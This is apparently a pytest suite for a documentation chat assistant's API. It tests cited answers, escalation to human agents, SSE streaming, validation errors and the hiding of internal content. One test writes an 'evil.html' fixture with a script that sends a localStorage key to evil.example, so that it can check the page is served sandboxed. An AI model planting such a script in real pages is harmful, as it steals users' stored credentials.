"""The chat API with the offline extractive answerer over the bundled docs: cited answers,
honest escalations, SSE as a client parses it, multi-turn, and every validation error."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from assistant.api import create_app
from assistant.api.routes import UNAVAILABLE
from assistant.errors import EscalationError
from assistant.services import Services
from assistant.settings import Settings

# The escalation threshold is a probability of a right answer (issue 15), whatever its default.
DEFAULT_THRESHOLD = Settings.model_fields["confidence_threshold"].default


@pytest.fixture(scope="module")
def client(docs_services: Services) -> Iterator[TestClient]:
    with TestClient(create_app(services=docs_services), raise_server_exceptions=False) as c:
        yield c


@pytest.fixture(scope="module")
def agent(docs_services: Services) -> dict[str, str]:
    key, _ = docs_services.keys.create("agent", "test agent")
    return {"Authorization": f"Bearer {key}"}


# Anonymous conversations belong to the session that started them; the tests keep each token as the widget does.
SESSIONS: dict[str, dict[str, str]] = {}


def ask(client: TestClient, question: str, conversation_id: str | None = None) -> dict[str, Any]:
    r = client.post("/v1/chat", json={"question": question, "conversation_id": conversation_id},
                    headers=SESSIONS.get(conversation_id or "", {}))
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    if "X-Answerdesk-Session" in r.headers:
        SESSIONS[body["conversation_id"]] = {"X-Answerdesk-Session": r.headers["X-Answerdesk-Session"]}
    return body


def parse_sse(text: str) -> list[tuple[str, Any]]:
    """As a browser's EventSource would: blocks split by a blank line, `event:` and `data:` fields."""
    events = []
    for block in text.split("\n\n"):
        if not block.strip():
            continue
        fields = dict(line.split(": ", 1) for line in block.split("\n"))
        events.append((fields["event"], json.loads(fields["data"])))
    return events


def test_configuration_question_cites_the_configuration_page(client: TestClient) -> None:
    body = ask(client, "How do I point answerdesk at a PostgreSQL database?")
    assert not body["escalated"] and body["escalation_id"] is None
    assert body["answerer"] == "extractive"
    assert body["confidence"] >= DEFAULT_THRESHOLD
    assert body["citations"], body
    assert "configuration.md#" in body["citations"][0]["url"]
    # Every [n] in the text names a listed citation, and every listed citation is used.
    import re

    used = {int(n) for n in re.findall(r"\[(\d+)\]", body["answer"])}
    assert used == {c["n"] for c in body["citations"]}
    assert all(c["snippet"] and c["title"] and c["source"] == "answerdesk-docs" for c in body["citations"])


def test_extractive_answer_only_quotes_sources(client: TestClient, docs_services: Services) -> None:
    body = ask(client, "What does the ingest summary line show?")
    assert not body["checks"]["unsupported_sentences"]
    from assistant.answering.text import split_sentences, strip_markers

    texts = {c["n"]: c for c in body["citations"]}
    chunks = docs_services.store.get_chunks(list({h.chunk.id for h in docs_services.retriever.search(
        body["search_query"], k=5)}))
    corpus = " ".join(" ".join(ch.text.split()) for ch in chunks.values())
    for block in body["answer"].split("\n\n"):
        if block.startswith("```"):
            continue
        for sentence in split_sentences(block):
            assert " ".join(strip_markers(sentence).split()) in corpus, sentence
    assert texts


def test_off_topic_question_is_escalated_honestly(client: TestClient, agent: dict[str, str]) -> None:
    body = ask(client, "What is the best recipe for banana bread?")
    assert body["escalated"] and body["escalation_id"]
    assert body["confidence"] < DEFAULT_THRESHOLD
    assert "not sure" in body["answer"] or "couldn't find" in body["answer"]
    assert body["escalation_id"] in body["answer"]
    assert "low_confidence" in body["flags"]
    assert client.get("/v1/escalations").status_code == 403  # the queue is for agents
    listed = {e["id"]: e for e in client.get("/v1/escalations", headers=agent).json()}
    esc = listed[body["escalation_id"]]
    assert esc["question"] == "What is the best recipe for banana bread?"
    assert esc["status"] == "open" and not esc["requested_by_user"]
    assert esc["reasons"] and esc["confidence"] == body["confidence"]
    assert esc["role"] == "community" and esc["priority"] == "Low" and esc["labels"] == ["answerdesk"]
    # The anonymous asker can follow it, with the session that asked; nobody else can.
    own = client.get(f"/v1/escalations/{body['escalation_id']}", headers=SESSIONS[body["conversation_id"]])
    assert client.get(f"/v1/escalations/{body['escalation_id']}").status_code == 404
    assert own.status_code == 200 and own.json()["id"] == body["escalation_id"]


def test_asking_for_a_human_escalates(client: TestClient) -> None:
    first = ask(client, "How do I install answerdesk?")
    body = ask(client, "This didn't help, I want to talk to a human please", first["conversation_id"])
    assert body["escalated"] and "human_requested" in body["flags"]
    r = client.post("/v1/escalations", json={"conversation_id": first["conversation_id"], "reason": "still stuck"},
                    headers=SESSIONS[first["conversation_id"]])
    assert r.status_code == 201
    esc = r.json()
    assert esc["requested_by_user"] and "still stuck" in esc["reasons"]
    assert esc["question"].startswith("This didn't help")
    assert esc["id"] == body["escalation_id"]  # asked twice, in the chat and with the button: one escalation


def test_asking_for_a_human_after_the_assistant_escalated_joins_that_escalation(
        client: TestClient, agent: dict[str, str]) -> None:
    """The assistant was not sure and escalated on its own; the user then asks for a human too. One
    conversation, one escalation: it becomes the user's request, keeps why the answer was doubted,
    and carries the contact the user gave."""
    auto = ask(client, "Which fertiliser do tomatoes need in spring?")
    assert auto["escalated"] and "low_confidence" in auto["flags"]
    cid = auto["conversation_id"]
    before = {e["id"]: e for e in client.get("/v1/escalations", headers=agent).json()}[auto["escalation_id"]]
    r = client.post("/v1/escalations", json={"conversation_id": cid, "reason": "need this today",
                                             "contact_email": "grower@example.com", "notify": True},
                    headers=SESSIONS[cid])
    assert r.status_code == 201, r.text
    esc = r.json()
    assert esc["id"] == auto["escalation_id"] and esc["requested_by_user"]
    assert "user_requested" in esc["reasons"] and "need this today" in esc["reasons"]
    assert set(before["reasons"]) <= set(esc["reasons"])  # why the assistant doubted its answer stays
    assert esc["contact_email"] == "grower@example.com" and esc["notify"]
    mine = [e for e in client.get("/v1/escalations", headers=agent).json() if e["conversation_id"] == cid]
    assert [e["id"] for e in mine] == [auto["escalation_id"]]


def test_sse_stream_as_a_client_reads_it(client: TestClient) -> None:
    r = client.post("/v1/chat", json={"question": "How do I install answerdesk?"},
                    headers={"Accept": "text/event-stream"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
    events = parse_sse(r.text)
    kinds = [k for k, _ in events]
    assert kinds[-2:] == ["citations", "done"] and set(kinds[:-2]) == {"delta"} and len(kinds) > 3
    done = events[-1][1]
    assert "".join(d["text"] for k, d in events if k == "delta") == done["answer"]
    assert events[-2][1] == done["citations"]
    assert done["message_id"] and done["conversation_id"]


def test_follow_up_is_rewritten_with_the_previous_turn(client: TestClient) -> None:
    first = ask(client, "How do I change the embedding model?")
    follow = ask(client, "and its batch size?", first["conversation_id"])
    assert follow["conversation_id"] == first["conversation_id"]
    assert follow["search_query"].startswith("How do I change the embedding model?")
    assert any("BATCH_SIZE" in c["title"].upper() or "batch" in c["snippet"].lower() for c in follow["citations"])
    alone = ask(client, "and its batch size?")
    assert alone["search_query"] == "and its batch size?"


def test_feedback(client: TestClient) -> None:
    body = ask(client, "How do I install answerdesk?")
    r = client.post("/v1/feedback", json={"message_id": body["message_id"], "rating": "up", "comment": "thanks"},
                    headers=SESSIONS[body["conversation_id"]])
    assert r.status_code == 201 and r.json()["rating"] == "up"


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"question": ""}, "question"),
        ({"question": "   "}, "question"),
        ({"question": "x" * 4001}, "question"),
        ({}, "question"),
        ({"question": 42}, "question"),
        ({"question": "hi", "conversation_id": "not-a-uuid"}, "conversation_id"),
        ({"question": "hi", "extra": 1}, "extra"),
    ],
)
def test_chat_validation_names_the_field(client: TestClient, payload: dict[str, Any], field: str) -> None:
    r = client.post("/v1/chat", json=payload)
    assert r.status_code == 422
    assert any(field in err["loc"] for err in r.json()["detail"]), r.json()


def test_other_client_errors(client: TestClient) -> None:
    unknown = "00000000-0000-0000-0000-000000000000"
    r = client.post("/v1/chat", json={"question": "hi", "conversation_id": unknown})
    assert r.status_code == 404 and r.json()["detail"] == "conversation not found"  # the id is not echoed
    r = client.post("/v1/chat", json={"question": "hi", "conversation_id": unknown},
                    headers={"Accept": "text/event-stream"})
    assert r.status_code == 404
    r = client.post("/v1/chat", content=b'{"question": "x' + b"y" * 70000 + b'"}',
                    headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "bytes" in r.json()["detail"]
    r = client.post("/v1/chat", content=b"{not json", headers={"Content-Type": "application/json"})
    assert r.status_code == 422
    r = client.post("/v1/feedback", json={"message_id": unknown, "rating": "up"})
    assert r.status_code == 404
    r = client.post("/v1/feedback", json={"message_id": unknown, "rating": "meh"})
    assert r.status_code == 422 and any("rating" in e["loc"] for e in r.json()["detail"])
    r = client.post("/v1/escalations", json={"conversation_id": unknown})
    assert r.status_code == 404


def test_health_and_readiness(client: TestClient) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}
    r = client.get("/readyz")
    assert r.status_code == 200 and r.json()["status"] == "ready"
    assert client.get("/").headers["content-type"].startswith("text/html")
    assert "/v1/chat" in client.get("/openapi.json").json()["paths"]


def test_unreachable_index_is_503_with_retry_after(tmp_path: Any, docs_services: Services) -> None:
    from tests.conftest import free_port

    settings = Settings(data_dir=tmp_path, chroma_url=f"http://127.0.0.1:{free_port()}",  # type: ignore[call-arg]
                        _env_file=None)
    with TestClient(create_app(services=Services(settings, embedder=docs_services.embedder)),
                    raise_server_exceptions=False) as c:
        r = c.post("/v1/chat", json={"question": "How do I install answerdesk?"})
        assert r.status_code == 503 and r.headers["Retry-After"]
        # Anyone: a plain message; the cause (host, port, setting) is for the log and for admins.
        assert r.json()["detail"] == UNAVAILABLE and "Traceback" not in r.text
        r = c.get("/readyz")
        assert r.status_code == 503 and r.json()["checks"]["index"] == "unreachable"
        admin, _ = c.app.state.services.keys.create("admin", "ops")  # type: ignore[attr-defined]
        r = c.post("/v1/chat", json={"question": "How do I install answerdesk?"}, headers={"X-API-Key": admin})
        assert r.status_code == 503 and "Chroma" in r.json()["detail"] and "127.0.0.1" in r.json()["detail"]
        r = c.get("/readyz", headers={"Authorization": f"Bearer {admin}"})
        assert r.json()["checks"]["index"].startswith("unreachable: ") and "Chroma" in r.json()["checks"]["index"]


def test_an_sse_error_shows_no_internals(client: TestClient, docs_services: Services,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    def lost(*_a: Any, **_k: Any) -> None:
        raise EscalationError("Could not record the answer: OperationalError at db.internal.example:5432")

    monkeypatch.setattr(docs_services.conversations, "add_exchange", lost)  # fails after the text streamed
    r = client.post("/v1/chat", json={"question": "How do I install answerdesk?"},
                    headers={"Accept": "text/event-stream"})
    kind, data = parse_sse(r.text)[-1]
    assert kind == "error" and data["detail"] == UNAVAILABLE and "db.internal" not in r.text


def test_unexpected_error_is_json_without_trace(client: TestClient, docs_services: Services,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_a: Any, **_k: Any) -> None:
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr(docs_services.retriever, "search", boom)
    r = client.post("/v1/chat", json={"question": "How do I install answerdesk?"})
    assert r.status_code == 500
    assert "secret internal detail" not in r.text and "Traceback" not in r.text
    assert r.json()["detail"]


def test_http_callers_never_see_internal_content(client: TestClient, docs_services: Services, tmp_path: Any,
                                                 agent: dict[str, str]) -> None:
    """Anonymous API users are community users: an internal page is invisible to them, even when
    asked for by its unique words, while the operator's CLI (all audiences) finds it."""
    from tests.conftest import index_docs

    folder = tmp_path / "internal"
    folder.mkdir()
    (folder / "runbook.md").write_text("---\ntitle: Refund runbook\naudience: internal\n---\n# Refund runbook\n\n"
                                       "Refunds over 500 euros are approved by codename OSPREY-7731 in finance.\n")
    index_docs(docs_services, folder, source="internal-notes")
    question = "Who approves refunds over 500 euros? What is codename OSPREY-7731?"
    assert docs_services.assistant.respond(question).citations[0].source == "internal-notes"
    for accept in ("application/json", "text/event-stream"):
        r = client.post("/v1/chat", json={"question": question}, headers={"Accept": accept})
        assert r.status_code == 200
        shown = r.text.replace(question, "")  # the question is echoed back as search_query
        assert "OSPREY" not in shown and "internal-notes" not in shown and "Refund runbook" not in shown
    assert "OSPREY" not in client.get("/v1/escalations", headers=agent).text.replace(question, "")


def test_raw_html_in_the_demo_docs_cannot_reach_this_origin(tmp_path: Any, docs_services: Services) -> None:
    """The analytics page keeps the admin key in this origin's storage: a docs folder's own HTML page is
    served sandboxed, without scripts. And the home page's tab shows a title, not the template's markers."""
    docs = tmp_path / "kb"
    docs.mkdir()
    (docs / "evil.html").write_text("<script>fetch('https://evil.example/?k=' + localStorage.getItem('k'))</script>")
    (docs / "index.md").write_text("# Welcome\n\nHello.\n")
    settings = docs_services.settings.model_copy(update={"demo_docs_dir": docs})
    with TestClient(create_app(services=Services(settings, embedder=docs_services.embedder))) as c:
        r = c.get("/kb/evil.html")
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert csp.startswith("sandbox") and "allow-scripts" not in csp and "default-src 'none'" in csp
        assert r.headers["x-content-type-options"] == "nosniff"
        for path, title in (("/", "answerdesk documentation"), ("/kb/index.md", "Welcome — answerdesk documentation")):
            page = c.get(path).text
            assert re.search(r"<title>(.*?)</title>", page, re.S).group(1) == title, path  # type: ignore[union-attr]
